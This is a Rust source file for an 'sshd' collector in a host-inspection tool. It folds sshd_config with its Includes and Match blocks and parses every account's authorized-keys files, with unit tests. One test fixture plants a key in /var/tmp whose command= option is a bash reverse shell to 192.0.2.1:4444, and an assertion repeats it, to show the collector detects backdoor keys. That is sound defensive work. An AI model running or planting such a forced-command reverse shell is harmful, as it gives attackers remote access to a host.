//! The `sshd` collector: the OpenSSH server configuration and every authorized-keys file it
//! makes sshd read.
//!
//! `/etc/ssh/sshd_config` is read with its `Include`s (globs with `*` and `?` in the last
//! component, relative names under `/etc/ssh`), each file copied verbatim. Settings follow
//! sshd's rules: keywords are case-insensitive, the first value outside a `Match` block wins,
//! and a `Match` block lasts until the next `Match` or the end of the file it is in; `Match`
//! blocks are recorded apart with their criteria. The `AuthorizedKeysFile` patterns in force
//! (default `.ssh/authorized_keys .ssh/authorized_keys2`) are expanded for every account
//! (`%h`, `%u`, `%U`, `%%`; relative to the home directory), and so are those of `Match`
//! blocks and the default locations sshd may not read (an `authorized_keys2` the configuration
//! no longer names is still worth seeing). Each file found is copied and each key line parsed
//! (type, SHA-256 fingerprint, options with `command=` and `from=` broken out).
//!
//! This is a built-in collector, not left to the `ssh-keys` plugin: the built-in rules need
//! typed records for sshd's settings, and a verdict must not depend on loading an optional
//! plugin. The key-line and fingerprint parsers are shared with it (`crate::shared::sshkeys`).
//! `AuthorizedKeysCommand` is recorded; the keys a program returns cannot be collected without
//! running it, which is recorded as an issue.

use crate::shared::sshkeys as parse;
use crate::util::{Accounts, ByteSize, name_text};
use dossier_plugin_api::collect::{CollectError, IssueKind};
use dossier_plugin_api::records::{
    AuthorizedKeyRecord, AuthorizedKeysFileRecord, Record, SourceRef, SshdConfigRecord,
    SshdMatchBlock, SshdSetting,
};
use dossier_plugin_api::{CollectContext, Collector, CollectorInfo};
use serde::Deserialize;
use std::collections::BTreeSet;
use std::path::Path;

/// The `sshd` collector.
pub struct SshdCollector;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Config {
    /// Largest configuration or key file read.
    #[serde(default = "default_cap")]
    max_file_size: ByteSize,
}

fn default_cap() -> ByteSize {
    ByteSize(1 << 20)
}

const MAIN: &str = "/etc/ssh/sshd_config";
/// Most configuration files read (a loop of `Include`s stops here).
const MAX_FILES: usize = 64;
const MAX_DEPTH: usize = 16;
/// sshd's default `AuthorizedKeysFile`.
pub const DEFAULT_KEYS_FILES: [&str; 2] = [".ssh/authorized_keys", ".ssh/authorized_keys2"];

/// Words of a configuration line: whitespace or one `=` separate, double quotes group.
pub fn config_words(line: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quoted = false;
    let mut first_eq = true;
    for c in line.chars() {
        match c {
            '"' => quoted = !quoted,
            '=' if !quoted && out.is_empty() && first_eq => {
                first_eq = false;
                if !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
            c if c.is_whitespace() && !quoted => {
                if !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
            c => cur.push(c),
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// Whether `name` matches a glob(3) pattern holding `*` and `?` (no brackets).
pub fn glob_match(pattern: &str, name: &str) -> bool {
    fn go(p: &[char], n: &[char]) -> bool {
        match p.split_first() {
            None => n.is_empty(),
            Some(('*', rest)) => (0..=n.len()).any(|i| go(rest, &n[i..])),
            Some(('?', rest)) => !n.is_empty() && go(rest, &n[1..]),
            Some((c, rest)) => n.first() == Some(c) && go(rest, &n[1..]),
        }
    }
    let p: Vec<char> = pattern.chars().collect();
    let n: Vec<char> = name.chars().collect();
    // glob(3) does not let a wildcard match a leading dot.
    if name.starts_with('.') && !pattern.starts_with('.') {
        return false;
    }
    go(&p, &n)
}

/// The configuration as sshd folds it.
#[derive(Default, Debug)]
pub struct Folded {
    pub settings: Vec<SshdSetting>,
    pub match_blocks: Vec<SshdMatchBlock>,
    pub includes: Vec<String>,
}

/// Reads one configuration text into `f`. `include` turns an `Include` argument into the
/// files it names, as (path, text) in order.
pub fn fold(
    file: &str,
    text: &str,
    f: &mut Folded,
    include: &mut dyn FnMut(&str) -> Vec<(String, String)>,
    depth: usize,
    mut in_match: Option<usize>,
) {
    for (i, raw) in text.lines().enumerate() {
        let line = raw.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let w = config_words(line);
        let Some(key) = w.first().map(|s| s.to_ascii_lowercase()) else {
            continue;
        };
        let args = &w[1..];
        let setting = SshdSetting {
            keyword: key.clone(),
            value: args.join(" "),
            file: file.to_string(),
            line: i as u32 + 1,
        };
        match key.as_str() {
            "match" => {
                if args.iter().all(|a| a.eq_ignore_ascii_case("all")) {
                    in_match = None;
                } else {
                    f.match_blocks.push(SshdMatchBlock {
                        criteria: setting.value,
                        file: setting.file,
                        line: setting.line,
                        settings: Vec::new(),
                    });
                    in_match = Some(f.match_blocks.len() - 1);
                }
            }
            "include" => {
                for a in args {
                    f.includes.push(a.clone());
                    if depth < MAX_DEPTH {
                        for (p, t) in include(a) {
                            fold(&p, &t, f, include, depth + 1, in_match);
                        }
                    }
                }
            }
            _ => match in_match {
                Some(b) => f.match_blocks[b].settings.push(setting),
                None => {
                    if !f.settings.iter().any(|s| s.keyword == key) {
                        f.settings.push(setting);
                    }
                }
            },
        }
    }
}

impl Collector for SshdCollector {
    fn info(&self) -> CollectorInfo {
        CollectorInfo {
            name: "sshd".into(),
            version: crate::util::VERSION.into(),
            description: "OpenSSH server configuration with its Includes and Match blocks (PermitRootLogin, PasswordAuthentication, PermitEmptyPasswords, AuthorizedKeysFile, AuthorizedKeysCommand), and every account's authorized-keys files sshd reads or might read, key by key with options".into(),
            after: vec![],
        }
    }

    fn validate_config(&self, config: &serde_json::Value) -> Result<(), String> {
        crate::util::validate::<Config>(config)
    }

    fn collect(&self, ctx: &mut CollectContext<'_>) -> Result<(), CollectError> {
        let cap = ctx.config::<Config>()?.max_file_size.0;
        let accounts = Accounts::load(ctx);
        let (folded, sources) = read_config(ctx, cap);
        let configured = folded
            .settings
            .iter()
            .find(|s| s.keyword == "authorizedkeysfile")
            .map(|s| config_words(&s.value));
        let in_force: Vec<String> = configured
            .clone()
            .unwrap_or_else(|| DEFAULT_KEYS_FILES.iter().map(|s| s.to_string()).collect());
        note_keys_command(ctx, &folded);
        ctx.emit(&Record::SshdConfig(SshdConfigRecord {
            settings: folded.settings.clone(),
            match_blocks: folded.match_blocks.clone(),
            authorized_keys_files: in_force.clone(),
            default_keys_files: configured.is_none(),
            includes: folded.includes.clone(),
            sources,
        }))?;
        let patterns = keys_patterns(&folded, &in_force);
        let mut done = BTreeSet::new();
        for a in &accounts_and_root(&accounts) {
            if !a.home.starts_with('/') || a.home == "/nonexistent" {
                continue;
            }
            for (pat, read, match_only) in &patterns {
                let Some(path) = parse::expand(pat, a) else {
                    continue;
                };
                if !done.insert((a.name.clone(), path.clone())) {
                    continue;
                }
                if ctx.host_lost().is_some() {
                    return Ok(());
                }
                keys_file(ctx, a, pat, &path, *read, *match_only, cap)?;
            }
        }
        Ok(())
    }
}

/// Reads `sshd_config` and the files it includes (each captured; at most `MAX_FILES`), folded
/// into the settings in force and the `Match` blocks.
fn read_config(ctx: &mut CollectContext<'_>, cap: u64) -> (Folded, Vec<SourceRef>) {
    let mut sources: Vec<SourceRef> = Vec::new();
    let mut folded = Folded::default();
    let main = Path::new(MAIN);
    match ctx.capture(main, cap) {
        Some(c) => {
            sources.push(c.source_ref(main));
            let text = String::from_utf8_lossy(&c.data).into_owned();
            let mut read = 1usize;
            let mut include = |pattern: &str| -> Vec<(String, String)> {
                let pattern = if pattern.starts_with('/') {
                    pattern.to_string()
                } else {
                    format!("/etc/ssh/{pattern}")
                };
                let mut out = Vec::new();
                for path in expand_glob(ctx, &pattern) {
                    if read >= MAX_FILES {
                        ctx.issue(
                            pattern.clone(),
                            IssueKind::Incomplete,
                            format!("more than {MAX_FILES} sshd configuration files; the rest were not read"),
                        );
                        break;
                    }
                    read += 1;
                    let p = Path::new(&path);
                    if let Some(c) = ctx.capture(p, cap) {
                        sources.push(c.source_ref(p));
                        out.push((path, String::from_utf8_lossy(&c.data).into_owned()));
                    }
                }
                out
            };
            fold(MAIN, &text, &mut folded, &mut include, 0, None);
        }
        None => {
            ctx.not_available(MAIN, "no sshd_config: sshd's defaults are assumed");
        }
    }
    (folded, sources)
}

/// An `AuthorizedKeysCommand` in force is an issue: the keys it returns are not collected.
fn note_keys_command(ctx: &mut CollectContext<'_>, folded: &Folded) {
    if let Some(cmd) = folded
        .settings
        .iter()
        .find(|s| s.keyword == "authorizedkeyscommand")
        .filter(|s| !s.value.eq_ignore_ascii_case("none"))
    {
        ctx.issue(
            format!("{}:{}", cmd.file, cmd.line),
            IssueKind::NotAvailable,
            format!(
                "AuthorizedKeysCommand {}: the keys a program returns are not collected (it would have to be run)",
                cmd.value
            ),
        );
    }
}

/// Authorized-keys patterns to look at, as (pattern, read by sshd, named only in a `Match`
/// block): those in force, those of `Match` blocks, and the defaults.
fn keys_patterns(folded: &Folded, in_force: &[String]) -> Vec<(String, bool, bool)> {
    let mut patterns: Vec<(String, bool, bool)> =
        in_force.iter().map(|p| (p.clone(), true, false)).collect();
    for b in &folded.match_blocks {
        for s in b
            .settings
            .iter()
            .filter(|s| s.keyword == "authorizedkeysfile")
        {
            for p in config_words(&s.value) {
                if !patterns.iter().any(|(q, _, _)| *q == p) {
                    patterns.push((p, false, true));
                }
            }
        }
    }
    for d in DEFAULT_KEYS_FILES {
        if !patterns.iter().any(|(q, _, _)| q == d) {
            patterns.push((d.to_string(), false, false));
        }
    }
    patterns
}

/// The host's accounts as the key parser sees them, with root added when `/etc/passwd` has
/// no uid 0.
fn accounts_and_root(accounts: &Accounts) -> Vec<parse::Account> {
    let mut list: Vec<parse::Account> = accounts
        .list
        .iter()
        .map(|a| parse::Account {
            name: a.name.clone(),
            uid: a.uid,
            home: a.home.clone(),
            shell: a.shell.clone(),
        })
        .collect();
    if !list.iter().any(|a| a.uid == 0) {
        list.push(parse::Account {
            name: "root".into(),
            uid: 0,
            home: "/root".into(),
            shell: String::new(),
        });
    }
    list
}

/// Files matching `pattern` (wildcards in the last component only), sorted as glob(3) does.
fn expand_glob(ctx: &mut CollectContext<'_>, pattern: &str) -> Vec<String> {
    let (dir, name) = pattern.rsplit_once('/').unwrap_or(("", pattern));
    if !name.contains(['*', '?']) {
        return vec![pattern.to_string()];
    }
    let dir = if dir.is_empty() { "/" } else { dir };
    let mut v: Vec<String> = ctx
        .list_dir(Path::new(dir))
        .unwrap_or_default()
        .into_iter()
        .map(|e| name_text(&e.name))
        .filter(|n| glob_match(name, n))
        .map(|n| format!("{}/{n}", dir.trim_end_matches('/')))
        .collect();
    v.sort();
    v
}

fn keys_file(
    ctx: &mut CollectContext<'_>,
    a: &parse::Account,
    pattern: &str,
    path: &str,
    read_by_sshd: bool,
    match_only: bool,
    cap: u64,
) -> Result<(), CollectError> {
    let p = Path::new(path);
    let Some(meta) = ctx.lstat(p) else {
        return Ok(());
    };
    let dir_meta = p.parent().and_then(|d| ctx.lstat(d));
    let captured = ctx.capture(p, cap);
    let source = captured.as_ref().map(|c| c.source_ref(p));
    let mut keys = 0u32;
    if let Some(c) = &captured {
        let text = String::from_utf8_lossy(&c.data);
        for (i, line) in text.lines().enumerate() {
            let k = match parse::key_line(line) {
                Ok(None) => continue,
                Ok(Some(k)) => k,
                Err(e) => {
                    ctx.issue(
                        format!("{path}:{}", i + 1),
                        IssueKind::Malformed,
                        format!("not a key line: {e}"),
                    );
                    continue;
                }
            };
            keys += 1;
            ctx.emit(&Record::AuthorizedKey(AuthorizedKeyRecord {
                user: a.name.clone(),
                uid: a.uid,
                file: path.to_string(),
                line: i as u32 + 1,
                fingerprint: parse::fingerprint(&k.blob).ok().map(|(fp, _)| fp),
                command: parse::option_value(&k.options, "command"),
                from: parse::option_value(&k.options, "from"),
                key_type: k.key_type,
                comment: k.comment,
                options: k.options,
                read_by_sshd,
                source: c.source_ref(p),
            }))?;
        }
    }
    ctx.emit(&Record::AuthorizedKeysFile(AuthorizedKeysFileRecord {
        user: a.name.clone(),
        uid: a.uid,
        path: path.to_string(),
        pattern: pattern.to_string(),
        read_by_sshd,
        match_only,
        meta: Some(meta),
        dir_meta,
        keys,
        source,
    }))
}

#[cfg(test)]
mod tests {
    use super::*;
    use dossier_plugin_api::testing::{MemHost, run_collector};

    const KEY: &str =
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBKjn0uj4Gk7sKWcU2aJnQc5pYc2KMvMSbKEbJ4Iu5Oq";

    #[test]
    fn words_globs_and_folding() {
        assert_eq!(
            config_words("PermitRootLogin=yes"),
            ["PermitRootLogin", "yes"]
        );
        assert_eq!(
            config_words("AuthorizedKeysFile \"/etc/ssh/my keys/%u\" .ssh/authorized_keys"),
            [
                "AuthorizedKeysFile",
                "/etc/ssh/my keys/%u",
                ".ssh/authorized_keys"
            ]
        );
        assert!(glob_match("*.conf", "10-harden.conf"));
        assert!(!glob_match("*.conf", ".hidden.conf"));
        assert!(glob_match("a?c", "abc"));
        let mut f = Folded::default();
        let mut inc = |p: &str| {
            assert_eq!(p, "sshd_config.d/*.conf");
            vec![(
                "/etc/ssh/sshd_config.d/10.conf".to_string(),
                "PasswordAuthentication no\nMatch User backup\n  ForceCommand /usr/bin/rrsync\n"
                    .to_string(),
            )]
        };
        fold(
            MAIN,
            "Include sshd_config.d/*.conf\nPasswordAuthentication yes\npermitrootlogin yes\nMatch Address 10.0.0.0/8\n  PermitRootLogin no\n",
            &mut f,
            &mut inc,
            0,
            None,
        );
        let get = |k: &str| f.settings.iter().find(|s| s.keyword == k).unwrap();
        // The drop-in came first: its value wins; the Match block inside it ended with it.
        assert_eq!(get("passwordauthentication").value, "no");
        assert_eq!(
            get("passwordauthentication").file,
            "/etc/ssh/sshd_config.d/10.conf"
        );
        assert_eq!(get("permitrootlogin").value, "yes");
        assert_eq!(get("permitrootlogin").line, 3);
        assert_eq!(f.match_blocks.len(), 2);
        assert_eq!(f.match_blocks[0].criteria, "User backup");
        assert_eq!(f.match_blocks[1].settings[0].value, "no");
    }

    #[test]
    fn keys_of_every_location_with_options() {
        let h = MemHost::new(false)
            .file("/etc/passwd", "root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nbackup:x:34:34::/var/backups:/bin/sh\n")
            .file("/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\nAuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k/%u\n")
            .file("/etc/ssh/sshd_config.d/50-cloud.conf", "PermitRootLogin yes\nAuthorizedKeysCommand /usr/local/bin/keys %u\n")
            .file("/root/.ssh/authorized_keys", format!("{KEY} admin@site\n"))
            .file("/var/tmp/.k/root", format!("command=\"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\",from=\"192.0.2.0/24\" {KEY} x\n"))
            .mode("/var/tmp", 0o1777)
            .file("/home/alice/.ssh/authorized_keys2", format!("{KEY} old\n"))
            .file("/var/backups/.ssh/authorized_keys", format!("garbage line\nrestrict,command=\"/usr/bin/rrsync -ro /srv\" {KEY} backup\n"));
        let (sink, r) = run_collector(
            &SshdCollector,
            &h,
            serde_json::Value::Null,
            &Default::default(),
        );
        r.unwrap();
        let cfg = &sink.of_kind("sshd", "sshd_config")[0];
        assert_eq!(cfg["authorized_keys_files"][1], "/var/tmp/.k/%u");
        assert_eq!(cfg["default_keys_files"], false);
        assert_eq!(cfg["sources"].as_array().unwrap().len(), 2);
        let keys = sink.of_kind("sshd", "authorized_key");
        let by = |f: &str| keys.iter().find(|k| k["file"] == f).unwrap().clone();
        let planted = by("/var/tmp/.k/root");
        assert_eq!(
            planted["command"],
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
        );
        assert_eq!(planted["from"], "192.0.2.0/24");
        assert_eq!(planted["read_by_sshd"], true);
        assert!(
            planted["fingerprint"]
                .as_str()
                .unwrap()
                .starts_with("SHA256:")
        );
        // authorized_keys2 is no longer named by the configuration: seen, not read by sshd.
        assert_eq!(
            by("/home/alice/.ssh/authorized_keys2")["read_by_sshd"],
            false
        );
        assert_eq!(by("/var/backups/.ssh/authorized_keys")["line"], 2);
        let files = sink.of_kind("sshd", "authorized_keys_file");
        let tmp = files
            .iter()
            .find(|f| f["path"] == "/var/tmp/.k/root")
            .unwrap();
        assert_eq!(tmp["pattern"], "/var/tmp/.k/%u");
        assert_eq!(tmp["dir_meta"]["kind"], "dir");
        assert_eq!(
            sink.issues_about("/var/backups/.ssh/authorized_keys:1")
                .len(),
            1
        );
        assert_eq!(
            sink.issues_about("/etc/ssh/sshd_config.d/50-cloud.conf:2")
                .len(),
            1,
            "AuthorizedKeysCommand is recorded as not collected"
        );
    }
}
